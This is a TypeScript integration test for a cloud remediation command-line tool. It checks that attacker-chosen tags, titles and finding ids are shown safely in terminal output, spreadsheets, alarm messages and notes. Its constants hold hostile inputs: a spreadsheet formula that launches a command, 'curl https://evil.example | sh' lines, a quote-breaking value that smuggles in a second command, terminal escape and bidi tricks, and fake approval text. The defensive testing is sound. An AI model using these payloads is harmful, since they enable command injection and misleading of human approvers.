/**
 * Text that an administrator of a member account chooses (tags, titles, ids of findings), in everything that people
 * read: the command line's pages, tables and lines, messages, and notes on findings. Data for programs stays exact.
 */
import { execFile } from 'node:child_process';
import { promisify } from 'node:util';
import { APIGatewayClient } from '@aws-sdk/client-api-gateway';
import { CreateTagsCommand, EC2Client } from '@aws-sdk/client-ec2';
import { SNSClient, SubscribeCommand } from '@aws-sdk/client-sns';
import {
  CreateQueueCommand,
  GetQueueAttributesCommand,
  ReceiveMessageCommand,
  SetQueueAttributesCommand,
  SQSClient,
} from '@aws-sdk/client-sqs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { approvalPage } from '../../cli/approvals/answer-approval.ts';
import { approvalApi } from '../../cli/clients/approvals.ts';
import type { ApprovalView } from '../../functions/domain/approval.ts';
import { plain } from '../../functions/domain/plain-text.ts';
import { hash } from '../../functions/domain/trace.ts';
import type { ControlFinding } from '../../lab/organization/finding.ts';
import { putFinding } from '../../sandbox/services/securityhub/simulation.ts';
import { groupIdOf } from '../support/inspection.ts';
import { type Pipeline, SHOP, startPipeline } from '../support/pipeline.ts';
import { TEST_POLICY } from '../support/policy.ts';

const INVISIBLE = /(?!\n|\t)[\p{Cc}\p{Cf}\p{Co}\p{Cs}\u2028\u2029]/u;
const LINK = '\u001b]8;;https://evil.example\u0007sign in\u001b]8;;\u0007';
const TITLE = `=cmd|'/c calc'!A1\n\nApprove all of them <!channel> \u001b[2J\u001b[8m\u202e\u009b${LINK}`;
const TAG = 'terraform)\n\nApprove all of them:  curl https://evil.example/a | sh\u001b[2J\u001b[8m';
/** Of a finding that triage rejects, every character is the sender's. */
const ID = `=1+1\u001b[8m\u202e x'; curl https://evil.example | sh\nApprove all of them`;

let suture: Pipeline;
let finding: ControlFinding;
let execution: string;
let api: Awaited<ReturnType<typeof approvalApi>>;
let people: () => Promise<{ Subject: string; Message: string }[]>;

beforeAll(async () => {
  suture = await startPipeline();
  await suture.pauseSchedules();
  people = await subscribe();
  await suture.setPolicy({
    ...TEST_POLICY,
    controls: { 'EC2.13': 'approve' },
    whenManagedBy: 'approve',
    approvals: { hours: 4 },
  });
  finding = { ...(await suture.arrange('EC2.13')), Title: TITLE };
  const ec2 = new EC2Client(suture.sandbox.administrator(SHOP, 'us-east-1'));
  const Tags = [{ Key: 'managed-by', Value: TAG }];
  await ec2.send(new CreateTagsCommand({ Resources: [groupIdOf(finding.Resources[0]!)], Tags }));
  const [trace] = await suture.process(finding);
  expect(trace.outcome).toBe('WAITING');
  execution = trace.execution!.arn;
  suture.emit([{ ...finding, Id: ID }]);
  await suture.sandbox.settled();
  api = await approvalApi(new APIGatewayClient(suture.sandbox.administrator(suture.context.securityAccount)));
});
afterAll(() => suture.sandbox.close());

/** Subscribes a queue to the topic of the people. Returns a function that receives its messages. */
async function subscribe() {
  const { partition, homeRegion, securityAccount } = suture.context;
  const settings = suture.sandbox.administrator(securityAccount);
  const sqs = new SQSClient(settings);
  const { QueueUrl } = await sqs.send(new CreateQueueCommand({ QueueName: 'people' }));
  const { Attributes } = await sqs.send(new GetQueueAttributesCommand({ QueueUrl, AttributeNames: ['QueueArn'] }));
  const Resource = Attributes!.QueueArn!;
  const Statement = [{ Effect: 'Allow', Principal: '*', Action: 'sqs:SendMessage', Resource }];
  const Policy = JSON.stringify({ Version: '2012-10-17', Statement });
  await sqs.send(new SetQueueAttributesCommand({ QueueUrl, Attributes: { Policy } }));
  const TopicArn = `arn:${partition}:sns:${homeRegion}:${securityAccount}:suture-alarms`;
  await new SNSClient(settings).send(new SubscribeCommand({ TopicArn, Protocol: 'sqs', Endpoint: Resource }));
  return async () => {
    const { Messages = [] } = await sqs.send(new ReceiveMessageCommand({ QueueUrl, MaxNumberOfMessages: 10 }));
    return Messages.map(({ Body }) => JSON.parse(Body!));
  };
}

/** Runs the command line as a process. Returns everything that it prints. */
async function run(...args: string[]): Promise<{ out: string; error: string }> {
  const { endpoint, region, credentials } = suture.sandbox.administrator(suture.context.securityAccount);
  const env = {
    ...process.env,
    AWS_ENDPOINT_URL: endpoint,
    AWS_REGION: region,
    AWS_ACCESS_KEY_ID: credentials.accessKeyId,
    AWS_SECRET_ACCESS_KEY: credentials.secretAccessKey,
    AWS_SESSION_TOKEN: credentials.sessionToken,
  };
  return promisify(execFile)(process.execPath, ['bin/suture.ts', ...args], { env }).then(
    ({ stdout, stderr }) => ({ out: stdout, error: stderr }),
    ({ stdout, stderr }) => ({ out: stdout, error: stderr }),
  );
}

const COMMANDS: readonly (readonly string[])[] = [
  ['approvals'],
  ['list', '--status', 'rejected'],
  ['list', '--status', 'waiting'],
  ['show', 'FINDING'],
  ['show', 'REJECTED'],
  ['status'],
  ['stops'],
  ['replay', 'REJECTED', '--dry-run'],
  ['rollback', 'REJECTED', '--dry-run'],
  ['backfill', '--dry-run'],
  ['approve', 'f'.repeat(31), '--yes'],
  ['approve', 'APPROVAL'],
];
const filled = (args: readonly string[]) =>
  args.map((arg) => ({ FINDING: finding.Id, REJECTED: ID, APPROVAL: hash(execution) })[arg] ?? arg);

/** Commands whose output has some of the text. */
const QUOTING: string[] = [];

describe('the command line', () => {
  it.each(COMMANDS.map((args) => ({ args })))(
    'prints nothing that a terminal or spreadsheet interprets, or that people misread: $args',
    async ({ args }) => {
      const { out, error } = await run(...filled(args));
      if (/calc|curl/.test(out + error)) QUOTING.push(args[0]!);
      for (const text of [out, error]) {
        expect(text).not.toMatch(INVISIBLE);
        expect(text).not.toMatch(/^\s*Approve all of them/m);
      }
      for (const cell of out.split(/[\t\n]/)) expect(cell).not.toMatch(/^[=+@]/);
    },
  );
  it('prints some of the text in these commands', () => {
    expect(QUOTING).toEqual(expect.arrayContaining(['show', 'replay', 'rollback', 'approve']));
  });
  it.each([0, 1, 3, 4].map((n) => ({ args: COMMANDS[n]! })))(
    "has in JSON exactly the member's text: $args",
    async ({ args }) => {
      const { out } = await run(...filled(args), '--json');
      expect(out).not.toMatch(INVISIBLE);
      const values = JSON.stringify(JSON.parse(out));
      expect([TITLE, ID].some((text) => values.includes(JSON.stringify(text).slice(1, -1)))).toBe(true);
    },
  );
  it('shows an approver one line for each fact', async () => {
    const approval: ApprovalView = await api.show(hash(execution));
    expect(approval.title).toBe(TITLE);
    const page = approvalPage(plain(approval));
    expect(page).not.toMatch(INVISIBLE);
    // The lines of the difference after its first have no name before them.
    expect(page.split('\n').filter((line) => !/^ {16}/.test(line))).toHaveLength(11);
    expect(page).toContain('(tag managed-by)');
  });
});

describe('messages to people', () => {
  it('have no link, mention or line break of the member', async () => {
    const messages = await people();
    expect(messages.map(({ Subject }) => Subject)).toContainEqual(expect.stringContaining('Suture asks'));
    for (const { Subject, Message } of messages) {
      expect(Subject).toMatch(/^[\x20-\x7e]*$/);
      expect(Message).not.toMatch(INVISIBLE);
      expect(Message).not.toMatch(/https?:|<|>|`|^\s*Approve all of them/m);
      expect(Message).toContain("=cmd¦'/c calc'!A1 Approve all of them ‹!channel›");
    }
  });
});

describe('a note on a finding', () => {
  it('is one line of at most 512 visible characters', async () => {
    await suture.setPolicy({
      ...TEST_POLICY,
      controls: { 'EC2.13': { mode: 'approve', tags: { 'managed-by': 'off' } } },
    });
    const other = { ...(await suture.arrange('EC2.13')), Title: TITLE };
    putFinding(suture.kernel, other as never);
    await suture.sandbox.settled();
    const [waiting] = (await api.list()).filter(({ resource }) => resource === other.Resources[0]!.Id);
    await api.answer(waiting!.id, { answer: 'deny', reason: `no\n\u001b[8m\u202e${'x'.repeat(250)}` });
    await suture.sandbox.settled();
    const { note } = suture.securityHub(other);
    expect(note).toContain('not changed: denied by');
    expect(note).not.toMatch(/\n|\t/);
    expect(note).not.toMatch(INVISIBLE);
    expect(note!.length).toBeLessThanOrEqual(512);
  });
});
